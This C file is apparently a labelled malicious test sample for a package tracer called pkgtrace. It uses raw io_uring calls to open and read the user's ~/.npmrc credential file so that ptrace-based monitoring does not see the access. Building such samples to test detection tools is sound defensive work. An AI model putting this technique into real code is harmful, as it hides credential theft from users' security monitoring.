// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only through `pkgtrace run`.
//
// io_uring_setup(2), then an IORING_OP_OPENAT of ~/.npmrc and an
// IORING_OP_READ of it submitted through the ring: the kernel does the open
// and the read itself, so ptrace sees neither. Prints what it got.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct io_uring_params p;
static unsigned char *sq, *cq;
static struct io_uring_sqe *sqes;
static int ring;

/// Submits one SQE and waits for its completion; returns cqe->res.
static int submit(struct io_uring_sqe *tmpl) {
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
    unsigned mask = *(unsigned *)(sq + p.sq_off.ring_mask);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    unsigned t = *tail;
    unsigned idx = t & mask;
    sqes[idx] = *tmpl;
    array[idx] = idx;
    __atomic_store_n(tail, t + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
        return -errno;
    }
    unsigned *head = (unsigned *)(cq + p.cq_off.head);
    unsigned cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    unsigned h = __atomic_load_n(head, __ATOMIC_ACQUIRE);
    int res = cqes[h & cmask].res;
    __atomic_store_n(head, h + 1, __ATOMIC_RELEASE);
    return res;
}

int main(void) {
    ring = (int)syscall(SYS_io_uring_setup, 8, &p);
    if (ring < 0) {
        printf("io_uring_setup: %s\n", strerrorname_np(errno));
        return 0;
    }
    printf("io_uring_setup: fd %d\n", ring);
    size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    if (p.features & IORING_FEAT_SINGLE_MMAP) {
        if (cq_len > sq_len) sq_len = cq_len;
    }
    sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    cq = (p.features & IORING_FEAT_SINGLE_MMAP)
             ? sq
             : mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
    sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
        printf("io_uring mmap: %s\n", strerrorname_np(errno));
        return 0;
    }
    char path[512];
    snprintf(path, sizeof path, "%s/.npmrc", getenv("HOME") ? getenv("HOME") : "/home/pkgtrace");
    struct io_uring_sqe open_sqe = {0};
    open_sqe.opcode = IORING_OP_OPENAT;
    open_sqe.fd = AT_FDCWD;
    open_sqe.addr = (unsigned long)path;
    open_sqe.open_flags = O_RDONLY;
    int fd = submit(&open_sqe);
    if (fd < 0) {
        printf("io_uring openat %s: %s\n", path, strerrorname_np(-fd));
        return 0;
    }
    static char buf[4096];
    struct io_uring_sqe read_sqe = {0};
    read_sqe.opcode = IORING_OP_READ;
    read_sqe.fd = fd;
    read_sqe.addr = (unsigned long)buf;
    read_sqe.len = sizeof buf - 1;
    int n = submit(&read_sqe);
    printf("io_uring openat %s: fd %d, read %d bytes\n", path, fd, n);
    return 0;
}
